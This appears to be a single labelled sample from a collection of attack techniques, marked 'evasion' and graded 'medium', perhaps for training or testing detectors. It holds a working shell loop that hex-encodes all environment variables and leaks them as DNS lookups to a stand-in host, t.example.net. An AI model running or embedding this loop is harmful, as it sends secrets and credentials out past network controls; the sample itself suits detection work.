# evasion: environment sent out as hex DNS labels
# grade: medium; does: exfil
env | xxd -p -c 30 | while read -r chunk; do
	nslookup "$chunk.t.example.net" >/dev/null 2>&1
done
